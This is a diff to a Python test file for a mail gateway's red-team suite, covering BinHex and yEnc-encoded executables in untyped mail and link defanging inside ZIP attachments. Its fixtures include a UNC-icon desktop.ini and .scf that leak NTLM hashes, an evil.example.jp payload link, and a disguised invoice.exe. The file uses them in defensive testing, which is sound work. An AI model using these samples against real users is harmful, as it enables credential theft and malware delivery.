@@ -12,7 +12,6 @@ from __future__ import annotations
 import base64
 import binascii
 import io
-import struct
 import zipfile
 from collections.abc import Iterator
 from pathlib import Path
@@ -20,6 +19,7 @@ from pathlib import Path
 import pytest
 
 from tests.helpers import hostile
+from tests.helpers.hostile import binhex
 from tests.helpers.redteam import RedTeamChain, leaves, plain, with_attachment
 from tests.text.linkify import live_links
 
@@ -63,7 +63,6 @@ _FORWARD = (
 ).encode()
 
 
-@pytest.mark.xfail(strict=True, reason="redteam: RT-01 .eml kept as text, exe inside")
 @pytest.mark.parametrize("container", ["attached", "inside-zip"])
 def test_eml_file_that_libmagic_calls_text_carries_an_executable(
     chain: RedTeamChain, container: str
@@ -126,7 +125,6 @@ RISKY_TEXT_NAMES = {
 }
 
 
-@pytest.mark.xfail(strict=True, reason="redteam: RT-05 names Windows acts on are kept")
 @pytest.mark.parametrize("filename", sorted(RISKY_TEXT_NAMES))
 def test_file_types_windows_acts_on_do_not_arrive_under_their_name(
     chain: RedTeamChain, filename: str
@@ -149,11 +147,12 @@ def _zip(members: dict[str, bytes]) -> bytes:
 
 def test_text_members_of_a_zip_get_their_links_defanged(chain: RedTeamChain):
     """RT-04. Top-level text attachments get their URLs and UNC paths defanged; the same
-    text inside a ZIP comes back byte for byte. An ``.scf`` with a UNC icon leaks the user's
-    NTLM hash when Explorer shows the extracted folder; a ``.url``-like text keeps links."""
+    text inside a ZIP comes back byte for byte. A ``desktop.ini`` with a UNC icon leaks the
+    user's NTLM hash when Explorer shows the extracted folder; a ``.url``-like text keeps
+    links. (An ``.scf`` member, the first sample here, now holds the whole archive: RT-05.)"""
     members = {
         "readme.txt": b"download: https://evil.example.jp/payload\r\n",
-        "folder.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\10.0.0.5\\share\\icon.ico\r\n",
+        "desktop.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\10.0.0.5\\share\\icon.ico,0\r\n",
     }
     outcome = chain.send(with_attachment("資料.zip", _zip(members), content_type="application/zip"))
     assert outcome.code == 250
@@ -196,46 +195,30 @@ def test_uuencoded_executable_in_untyped_mail_never_arrives_encoded(
         assert b"begin 644 invoice.exe" not in copy
 
 
-_BINHEX_ALPHABET = b"!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
-
-
-def _crc_ccitt(data: bytes) -> int:
-    crc = 0
-    for byte in data + b"\0\0":
-        for bit in range(8):
-            carry = crc & 0x8000
-            crc = ((crc << 1) | ((byte >> (7 - bit)) & 1)) & 0xFFFF
-            if carry:
-                crc ^= 0x1021
-    return crc
-
-
-def binhex(name: bytes, data: bytes) -> bytes:
-    """BinHex 4.0 (RFC 1741) of one data fork; checked against Perl's Convert::BinHex."""
-
-    def with_crc(block: bytes) -> bytes:
-        return block + struct.pack(">H", _crc_ccitt(block))
-
-    header = bytes([len(name)]) + name + b"\0APPL????\0\0" + struct.pack(">II", len(data), 0)
-    raw = (with_crc(header) + with_crc(data) + with_crc(b"")).replace(b"\x90", b"\x90\x00")
-    raw += b"\0" * (-len(raw) % 3)
-    encoded = bytearray()
-    for i in range(0, len(raw), 3):
-        value = int.from_bytes(raw[i : i + 3], "big")
-        encoded += bytes(_BINHEX_ALPHABET[(value >> shift) & 63] for shift in (18, 12, 6, 0))
-    text = b":" + bytes(encoded) + b":"
-    lines = [text[i : i + 64] for i in range(0, len(text), 64)]
-    return b"(This file must be converted with BinHex 4.0)\r\n" + b"\r\n".join(lines) + b"\r\n"
-
-
-@pytest.mark.xfail(strict=True, reason="redteam: RT-07 BinHex in plain text passes unchanged")
 def test_binhex_executable_in_untyped_mail_never_arrives_encoded(chain: RedTeamChain):
     """RT-07. Thunderbird decodes BinHex 4.0 in untyped mail into an attachment named by the
-    BinHex header; the gateway does not know BinHex and delivers the text unchanged."""
-    outcome = chain.send(_UNTYPED.encode() + binhex(b"invoice.exe", hostile.pe_bytes()))
+    BinHex header; the gateway did not know BinHex and delivered the text unchanged. Now the
+    file is decoded (run-length encoded or not) and goes through the attachment stage."""
+    for runs in (False, True):
+        sent = _UNTYPED.encode() + binhex(b"invoice.exe", hostile.pe_bytes(), runs=runs)
+        outcome = chain.send(sent)
+        assert outcome.code == 250
+        assert outcome.was_held, "an executable inside must hold the message"
+        for copy in outcome.delivered:
+            assert b"(This file must be converted with BinHex 4.0)" not in copy
+
+
+@pytest.mark.parametrize("end", [True, False], ids=["with-yend", "without-yend"])
+def test_yenc_executable_in_untyped_mail_is_held(chain: RedTeamChain, end: bool):
+    """RT-07 (yEnc). Thunderbird decodes ``=ybegin`` blocks in untyped mail too, up to
+    ``=yend`` or the end of the text; the gateway used to only put a space before the line,
+    so the program itself was never inspected."""
+    sent = _UNTYPED.encode() + hostile.yenc(b"invoice.exe", hostile.pe_bytes(), end=end)
+    outcome = chain.send(sent)
     assert outcome.code == 250
+    assert outcome.was_held
     for copy in outcome.delivered:
-        assert b"(This file must be converted with BinHex 4.0)" not in copy
+        assert b"=ybegin" not in copy
 
 
 def test_uuencoded_executable_in_plain_text_is_held(chain: RedTeamChain):
